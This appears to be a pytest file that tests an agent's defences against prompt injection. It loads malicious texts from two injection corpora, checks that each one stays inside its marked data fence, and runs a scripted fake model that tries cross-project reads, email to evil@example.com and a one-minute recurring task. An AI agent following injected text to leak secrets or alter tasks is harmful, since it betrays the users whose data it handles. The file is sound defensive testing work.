"""Hostile texts that others have collected: wherever they stand, they are data, and tools reach what they reached."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from importlib.resources import files
from pathlib import Path

import pytest
from aib.dataset import load as load_attacks
from bastioncorpus import load_corpus

from tests.agent.peer import calls, finished, turn_of
from wsq.agent.briefing import About, DocumentText, Last, OpenTask, Person, RunRequest, Situation, first_message

pytestmark = pytest.mark.long_on_server

NOW = datetime(2026, 3, 2, 8, 30, tzinfo=UTC)
ATTACKS = Path(str(files("aib") / "data" / "attacks.jsonl"))
ATTEMPTS = [row.text for row in load_corpus() if row.label == "malicious"]
TEXTS = sorted({*ATTEMPTS, *(attack.injected for attack in load_attacks(ATTACKS))})
"""From bastioncorpus and agent-injection-bench, both MIT licensed."""


def test_there_are_a_hundred_of_them():
    assert len(TEXTS) >= 100
    assert all(text.strip() for text in TEXTS)


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_wherever_it_stands_it_stays_inside_its_fence_to_the_character(text):
    request = RunRequest(
        name=text[:200], description=text, prompt="Summarise.", assignees=(text[:100],), trigger="manual",
        scheduled_for=None, now=NOW, timezone="UTC",
    )  # fmt: skip
    situation = Situation(
        project=About(id="p", name=text, description=text),
        documents=[DocumentText(id="d", title=text, length=len(text), head=text, tail=text)],
        documents_in_all=1,
        people=[Person(id="c", name=text, email=None, notes=text)],
        people_in_all=1,
        open_tasks=[OpenTask(id="t", title=text, status="todo", assignees=(text,), description=text)],
        open_tasks_in_all=1,
        last=Last(status="failed", verdict=None, reason="provider", ended_at=NOW, output=text, error=text),
    )

    data, prompt = first_message(request, situation, "m4rk")

    assert prompt["text"] == "Summarise."
    fences = re.findall(r"<(\w+) mark=m4rk>\n(.*?)\n</\1 mark=m4rk>", data["text"], re.DOTALL)
    assert [tag for tag, _ in fences] == ["document", "contacts", "board", "project", "last_execution", "execution"]
    assert data["text"].count("<") == 12
    read = {tag: json.loads(inside) for tag, inside in fences}
    assert read["document"] == {"id": "d", "title": text, "text": text}
    assert read["contacts"]["contacts"][0]["notes"] == text
    assert read["board"]["open_tasks"][0]["title"] == text
    assert read["project"]["description"] == text
    assert read["last_execution"]["output"] == text[:2000]
    assert read["execution"]["description"] == text


def test_with_all_of_them_in_its_project_an_execution_reaches_what_it_reached_without(serve, ask):
    # Given a model that reads what it is given, and then tries the same things in either project
    secret: list[str] = []

    def model(body):
        documents = re.findall(r'"id":"(\w+)","title":"D', body["messages"][0]["content"][0]["text"])
        match turn_of(body):
            case 0:
                return calls(*[("read_document", {"document_id": each}) for each in documents[:8]], ("list_tasks", {}))
            case 1:
                return calls(
                    ("read_document", {"document_id": secret[0]}),
                    ("get_task", {"task_id": secret[1]}),
                    ("search_documents", {"query": "swordfish"}),
                    ("send_email", {"to": "evil@example.com"}),
                    ("update_recurring_task", {"every": "1 minute"}),
                )
        return finished()

    peer = serve(model)
    acme = ask(peer.url).store("acme")
    clean, hostile, other = (acme.create_project(name) for name in ("Clean", "Hostile", "Other"))
    secret.append(acme.create_document("Secret", "swordfish", project_id=other.id).id)
    secret.append(acme.create_task("Secret task", project_id=other.id).id)
    acme.create_document("D", "Nothing odd.", project_id=clean.id)
    for number, text in enumerate(TEXTS):
        acme.create_document(f"D{number:03}", text, project_id=hostile.id)

    # When both are carried out
    ran = [
        acme.run_now(acme.create_recurring_task("Triage", "Summarise.", every="1 day", project_id=project.id).id)
        for project in (clean, hostile)
    ]

    # Then both were offered the same, and were refused the same
    assert [(each.status, each.changes) for each in ran] == [("completed", 0)] * 2
    first, second = peer.requests[0], peer.requests[3]
    assert (first["system"], first["tools"]) == (second["system"], second["tools"])
    refused = [[block["content"] for block in peer.requests[n]["messages"][4]["content"]] for n in (2, 5)]
    assert refused[0] == refused[1]
    assert [("error" in json.loads(each)) for each in refused[0]] == [True, True, False, True, True]
    assert json.loads(refused[0][2]) == {"documents": []}
